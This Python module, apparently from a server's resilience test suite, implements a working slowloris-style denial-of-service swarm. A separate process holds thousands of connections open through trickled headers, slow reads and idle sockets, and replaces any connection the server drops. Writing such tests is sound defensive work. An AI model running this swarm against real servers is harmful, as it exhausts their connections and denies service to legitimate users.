"""Hostile connections by the thousand, kept open by a process of their own.

Each kind of guest holds a connection as cheaply as it can; one that the server ends is
replaced at once, so that the attack stays as strong as it was.
"""

import multiprocessing
import socket
import time
from collections import Counter, deque
from collections.abc import Mapping
from dataclasses import dataclass
from multiprocessing.connection import Connection
from types import TracebackType
from typing import NamedTuple, Self

from attacks.target import Address

STEP = 1.0
"""Seconds between two acts of a guest."""
_BATCH = 200  # connections that are opened between two looks at the others
_PATIENCE = 60.0  # seconds until the swarm must be complete
_CONNECT_PATIENCE = 2.0
_PAUSE = 0.01


class Kind(NamedTuple):
    """How a guest holds on to its connection."""

    opening: bytes
    """Sent at once."""
    trickle: bytes = b""
    """Sent at every step."""
    bite: int = 0
    """Bytes that are read at every step."""
    receive_buffer: int | None = None
    """Bytes that the kernel may hold for the guest."""

    @property
    def asks(self) -> bool:
        """Whether an answer is due; for the others, whatever comes is the end."""
        return self.opening.endswith(b"\r\n\r\n")


SMALL_BUFFER = 4 * 1024


def slow_head(target: str) -> Kind:
    """A request that never ends: a field every second, as slowloris does it."""
    return Kind(b"GET %b HTTP/1.1\r\nHost: localhost\r\n" % target.encode(), b"X-a: b\r\n")


def slow_reader(target: str, bite: int) -> Kind:
    """A download that is taken by *bite* bytes a second; 0: not at all."""
    opening = b"GET %b HTTP/1.1\r\nHost: localhost\r\n\r\n" % target.encode()
    return Kind(opening, bite=bite, receive_buffer=SMALL_BUFFER)


IDLE = Kind(b"")
"""A connection that never asks for anything."""


@dataclass(slots=True)
class _Guest:
    kind: str
    socket: socket.socket
    due: float


class _Crowd:
    """The guests of one process, which acts on each of them in turn."""

    def __init__(self, address: Address, kinds: Mapping[str, tuple[Kind, int]]) -> None:
        self._address = address
        self._kinds = {name: kind for name, (kind, _) in kinds.items()}
        self._missing = Counter({name: count for name, (_, count) in kinds.items()})
        self._guests: deque[_Guest] = deque()  # in the order of their next act
        self.ended: Counter[str] = Counter()

    @property
    def is_complete(self) -> bool:
        return not self._missing.total()

    def turn(self) -> None:
        """Open what is missing, up to a batch, and act on who is due."""
        for name in list(self._missing.elements())[:_BATCH]:
            try:
                self._guests.append(self._open(name))
            except OSError:
                self.ended["not connected"] += 1
                break
            self._missing[name] -= 1
        now = time.monotonic()
        while self._guests and self._guests[0].due <= now:
            guest = self._guests.popleft()
            if self._act(guest):
                guest.due = now + STEP
                self._guests.append(guest)
            else:
                guest.socket.close()
                self.ended[guest.kind] += 1
                self._missing[guest.kind] += 1

    def _open(self, name: str) -> _Guest:
        kind = self._kinds[name]
        sock = socket.socket()
        try:
            if kind.receive_buffer is not None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, kind.receive_buffer)
            sock.settimeout(_CONNECT_PATIENCE)
            sock.connect(self._address)
            sock.setblocking(False)
            sock.send(kind.opening)
        except OSError:
            sock.close()
            raise
        return _Guest(name, sock, time.monotonic() + STEP)

    def _act(self, guest: _Guest) -> bool:
        """Do what the guest does at a step; return whether its connection still stands."""
        kind = self._kinds[guest.kind]
        try:
            if kind.trickle:
                guest.socket.send(kind.trickle)
            # Who never reads would not see the end either: a look at one byte takes nothing.
            size, flags = (kind.bite, 0) if kind.bite else (1, socket.MSG_PEEK)
            return bool(guest.socket.recv(size, flags)) and kind.asks
        except BlockingIOError:
            return True
        except OSError:
            return False

    def close(self) -> None:
        for guest in self._guests:
            guest.socket.close()


def _run(address: Address, kinds: Mapping[str, tuple[Kind, int]], orders: Connection) -> None:
    crowd = _Crowd(address, kinds)
    told = False
    while not orders.poll(_PAUSE):
        crowd.turn()
        if crowd.is_complete and not told:
            orders.send(True)
            told = True
    crowd.close()
    orders.send(crowd.ended)


class Swarm:
    """So many guests of each kind. Use it as a context; it begins complete.

    `ended` has, afterwards, how many connections of each kind the server has ended.

    Raises RuntimeError when the server does not take them all in time.
    """

    def __init__(self, address: Address, kinds: Mapping[str, tuple[Kind, int]]) -> None:
        processes = multiprocessing.get_context("spawn")
        self._orders, theirs = processes.Pipe()
        self._process = processes.Process(target=_run, args=(address, kinds, theirs), daemon=True)
        self.ended: Counter[str] = Counter()

    def __enter__(self) -> Self:
        self._process.start()
        if not self._orders.poll(_PATIENCE):
            self._process.kill()
            raise RuntimeError("the server does not take all connections")
        self._orders.recv()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._orders.send(None)
        if self._orders.poll(_PATIENCE):
            self.ended = self._orders.recv()
            self._process.join(_PATIENCE)
        self._process.kill()
        self._process.join()
